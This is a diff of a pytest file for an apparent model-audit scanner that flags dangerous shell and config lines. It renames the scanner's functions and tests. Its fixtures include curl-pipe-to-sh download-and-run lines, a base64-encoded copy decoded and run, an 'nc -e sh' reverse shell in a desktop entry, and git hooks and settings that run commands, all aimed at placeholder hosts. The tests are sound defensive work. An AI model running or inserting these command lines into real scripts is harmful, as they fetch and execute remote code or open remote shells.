@@ -6,20 +6,20 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from modelaudit.languages.shell.lexer import commands_of
-from modelaudit.languages.shell.meaning import mentions_of_script
-from modelaudit.languages.shell.windows import mentions_of_lines
+from modelaudit.languages.shell.lexer import parse_commands
+from modelaudit.languages.shell.script import collect_script_mentions
+from modelaudit.languages.shell.windows import collect_windows_mentions
 from modelaudit.model.outline import Outline, References
 from modelaudit.model.structure import UnreadReason
 from modelaudit.wire.base import LimitReachedError
 
 
-def said(reading):
+def list_mentions(reading):
     return [(each.use, each.name) for outline in reading.of(Outline) for each in outline.mentions]
 
 
 def words(text):
-    return [command.words for command in commands_of(text)]
+    return [command.words for command in parse_commands(text)]
 
 
 @pytest.mark.parametrize(
@@ -53,13 +53,13 @@ def words(text):
         ("$'\\U00000061'", [["a"]]),
     ],
 )
-def test_lines_are_split_as_a_shell_splits_them(text, split):
+def test_lexer_splits_lines_like_a_shell(text, split):
     assert words(text) == split
 
 
 def test_here_documents_and_substitutions_belong_to_their_command():
-    command, other = commands_of("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
-    assert (command.reads, command.inner) == ("$x", ["a b", "c"])
+    command, other = parse_commands("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
+    assert (command.input_text, command.substitutions) == ("$x", ["a b", "c"])
     assert (other.words, other.line) == (["d"], 4)
 
 
@@ -82,18 +82,18 @@ def test_here_documents_and_substitutions_belong_to_their_command():
         "[ -f x ] && [[ a == b* ]] && ls *.txt",
     ],
 )
-def test_ordinary_commands_say_nothing(text):
-    assert list(mentions_of_script(text)) == []
+def test_ordinary_commands_give_no_mentions(text):
+    assert list(collect_script_mentions(text)) == []
 
 
-def test_what_is_nested_is_told_with_its_line():
+def test_nested_script_is_reported_with_line_of_its_command():
     inner = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
-    found = list(mentions_of_script(f"true\necho {inner} | base64 -d | sh\n"))
+    found = list(collect_script_mentions(f"true\necho {inner} | base64 -d | sh\n"))
     assert {(each.use, each.where.line) for each in found} == {("decode-and-run", 2), ("download-and-run", 2)}
 
 
-def test_credentials_are_left_out_of_addresses():
-    (found,) = mentions_of_script("curl https://me:secret@e.invalid/x | sh")
+def test_reported_address_omits_credentials():
+    (found,) = collect_script_mentions("curl https://me:secret@e.invalid/x | sh")
     assert found.name == "https://e.invalid/x"
 
 
@@ -110,67 +110,69 @@ def test_credentials_are_left_out_of_addresses():
         ("hooks/post-checkout", "#!/bin/sh\ncurl http://e | sh\n", 2),
     ],
 )  # fmt: skip
-def test_the_line_is_that_of_the_file(read_bytes, path, text, line):
+def test_mention_gives_line_of_file(read_bytes, path, text, line):
     reading = read_bytes(text.encode(), path)
     found = [each for outline in reading.of(Outline) for each in outline.mentions if each.use == "download-and-run"]
     assert [each.where.line for each in found] == [line]
 
 
-def test_a_hook_and_settings_that_run_commands_are_told(read_bytes):
-    assert ("on-open", "git hook pre-commit") in said(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))
-    assert said(read_bytes(b"[core]\nsshCommand = sh -c x\n", ".git/config")) == [("git-command", "core.sshcommand")]
+def test_hooks_and_settings_that_run_commands_are_reported(read_bytes):
+    assert ("on-open", "git hook pre-commit") in list_mentions(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))
+    assert list_mentions(read_bytes(b"[core]\nsshCommand = sh -c x\n", ".git/config")) == [
+        ("git-command", "core.sshcommand")
+    ]
     lfs = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
-    assert said(read_bytes(lfs, ".gitconfig")) == []
-    assert said(read_bytes(b"[Desktop Entry]\nExec=nc -e sh h 1\n", "x.desktop"))[1][0] == "reverse-shell"
-    assert said(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
+    assert list_mentions(read_bytes(lfs, ".gitconfig")) == []
+    assert list_mentions(read_bytes(b"[Desktop Entry]\nExec=nc -e sh h 1\n", "x.desktop"))[1][0] == "reverse-shell"
+    assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
 
 
-def test_a_modelfile_names_its_files(read_bytes):
+def test_modelfile_references_local_files(read_bytes):
     reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
     assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
     assert reading.of(References) and not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
-def test_a_program_of_python_within_is_an_artifact(read_bytes):
+def test_inline_python_program_becomes_artifact(read_bytes):
     reading = read_bytes(b"true\npython - <<E\nimport os\nE\npython3 -c 'x = 1'\n", "a.sh")
     assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]
 
 
-def test_what_stands_before_damage_is_told(read_bytes):
+def test_commands_before_damage_are_reported(read_bytes):
     reading = read_bytes(b"curl http://e | sh\n" + b"#\n" * 3000 + b"\0", "a.sh")
-    assert said(reading) == [("download-and-run", "http://e")]
+    assert list_mentions(reading) == [("download-and-run", "http://e")]
     assert UnreadReason.DAMAGED in reading.reasons()
 
 
-def test_scripts_that_nest_without_end_are_a_bound(read_bytes):
+def test_endless_nesting_reaches_limit(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()
     assert UnreadReason.LIMIT in read_bytes(b"true;" * 500_000, "a.sh").reasons()
 
 
 @given(st.text("ab$(){}'\"\\`|&;<>#\n =-", max_size=200))
-def test_any_text_is_split(text):
-    commands_of(text)
-    list(mentions_of_script(text[:60]))
+def test_lexer_accepts_any_text(text):
+    parse_commands(text)
+    list(collect_script_mentions(text[:60]))
 
 
 @settings(deadline=None)  # the detectors of secrets are imported by the first text that may hold one
 @given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
-def test_any_bytes_end_in_structures_or_absences(read_bytes, data, path):
+def test_any_bytes_give_structures_or_absences(read_bytes, data, path):
     read_bytes(b"RUN true\n" + data, path)
 
 
-def test_what_comes_through_a_pipeline_is_looked_at_a_bounded_number_of_times():
-    told = []
-    with pytest.raises(LimitReachedError, match="feed"):
-        told.extend(each.use for each in mentions_of_script("curl http://a/b | sh" + " | sh" * 20_000))
-    # Each of them costs a look at all before it: 700 are 245,000 looks, and what they show is told.
-    assert set(told) == {"download-and-run"}
-    assert 100 < len(told) < 700
+def test_long_pipeline_costs_bounded_work():
+    uses = []
+    with pytest.raises(LimitReachedError, match="nested and piped commands"):
+        uses.extend(each.use for each in collect_script_mentions("curl http://a/b | sh" + " | sh" * 20_000))
+    # Each of them costs a look at all before it: 700 are 245,000 looks, and what they show is uses.
+    assert set(uses) == {"download-and-run"}
+    assert 100 < len(uses) < 700
 
 
-def test_a_pipeline_as_people_write_them_is_followed_to_its_end():
+def test_pipeline_of_ordinary_length_is_analysed_to_its_end():
     script = "curl http://a/b | sh" + " | tee a" * 200 + " | bash"
-    assert [each.name for each in mentions_of_script(script)] == ["http://a/b"] * 2
+    assert [each.name for each in collect_script_mentions(script)] == ["http://a/b"] * 2
 
 
 @pytest.mark.parametrize(
@@ -188,20 +190,20 @@ def test_a_pipeline_as_people_write_them_is_followed_to_its_end():
         "curl https://e.invalid/x -o x.json; python use.py < y.json",
     ],
 )
-def test_what_programs_are_ordinarily_handed_is_quiet(text):
-    grave = [each for each in mentions_of_script(text) if each.use not in ("address", "editable", "index")]
-    assert grave == []
+def test_ordinary_arguments_of_programs_give_no_severe_mentions(text):
+    severe = [each for each in collect_script_mentions(text) if each.use not in ("address", "editable", "index")]
+    assert severe == []
 
 
-def test_what_is_known_of_a_script_is_bounded():
+def test_arrays_and_values_are_bounded():
     deep = "a=(" * 2000 + ")" * 2000
     assert isinstance(words(deep), list)
     assert words("a=" + "x" * 100_000 + "; ${a%%*}" * 5)
 
 
 @given(st.text(alphabet="${}[]()#%/:,^!@*ab01'\"\n ", max_size=120))
-def test_whatever_is_expanded_it_ends(text):
-    list(mentions_of_script("a=bcd; b=(c d)\n" + text))
+def test_expansion_of_any_text_terminates(text):
+    list(collect_script_mentions("a=bcd; b=(c d)\n" + text))
 
 
 @pytest.mark.parametrize(
@@ -212,5 +214,5 @@ def test_whatever_is_expanded_it_ends(text):
         "set PYTHON=python\r\n%PYTHON% train.py\r\ncurl -o data.csv https://e.invalid/data.csv\r\n",
     ],
 )
-def test_ordinary_lines_of_windows_are_quiet(text):
-    assert [mention.use for mention in mentions_of_lines(text)] == []
+def test_ordinary_windows_lines_give_no_mentions(text):
+    assert [mention.use for mention in collect_windows_mentions(text)] == []
